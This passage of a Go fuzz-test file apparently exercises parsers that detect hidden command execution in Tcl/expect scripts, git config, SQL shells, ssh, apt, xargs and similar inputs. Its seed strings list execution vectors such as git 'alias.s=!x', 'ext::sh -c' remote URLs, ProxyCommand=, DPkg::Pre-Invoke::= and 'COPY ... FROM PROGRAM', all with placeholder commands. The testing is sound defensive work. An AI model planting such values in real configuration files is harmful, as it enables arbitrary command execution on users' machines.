	for _, s := range []string{`spawn sh -c "x"; expect eof`, `spawn ssh h; send "x\r"`, `exec a | b > f`, `set x [exec id]`,
		`expect { "#" { send "x\r" } }`, `open "|x"`, `proc p {} { system x }`, `eval $x`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { fuzzReader(t, s, tclCode) })
}

func FuzzGitConfig(f *testing.F) {
	for _, s := range []string{"core.pager=x", "alias.s=!x", "alias.s=log -1 'a b'", "remote.o.url=ext::sh -c x% y", "pager.log=true", "x"} {
		f.Add(s, "s")
	}
	f.Fuzz(func(t *testing.T, kv, sub string) {
		fuzzReader(t, kv, func(s string, fc *foundCode) { gitConfigCode(s, sub, []Arg{{Value: sub}}, fc) })
		fuzzReader(t, kv, gitConfigEnvCode)
		gitExtURL(kv)
		splitQuoted(kv)
		gitKeyKind(kv)
	})
}

func FuzzSmallReaders(f *testing.F) {
	for _, s := range []string{".shell x", `\! x`, "COPY t FROM PROGRAM 'x''y'", `"\C-x": y`, "ProxyCommand=x", "DPkg::Pre-Invoke::=x", "exec=x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, read := range []func(string, *foundCode){sqlShellCode, bindCode, sshOptionCode, aptOptionCode, checkpointCode} {
			fuzzReader(t, s, read)
		}
		screenUnescape(s)
		lessOpenCode("less", "LESSOPEN", s, nil)
	})
}

func FuzzInputReaders(f *testing.F) {
	for _, s := range []string{`%s\0`, `"$x" '$(y)' \z`, `$'\x41'${a}`, "a 'b c' \"d\"", `\c`, `%b`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		approxValue(s)
		for _, name := range []string{"echo", "printf"} {
			out, ok := output(name, s, s, "x")
			if ok && len(out) > maxOutput+3*len(s)+16 {
				t.Fatalf("%s output of %d bytes", name, len(out))
			}
		}
		for _, o := range [][]string{nil, {"-0"}, {"-I{}"}, {"-d", s}, {"-E", s}, {s}} {
			x, _ := xargsOptions(o)
			xargsSplit(s, x)
			xargsRuns(o, []Arg{{Value: "x"}, {Value: s}}, s, 1<<16)
		}
		if r := parallelReplace(s, s); len(r) > maxCodeText+2*len(s)+16 && r != dynPlaceholder {
			t.Fatalf("parallel command of %d bytes", len(r))
		}
	})
}
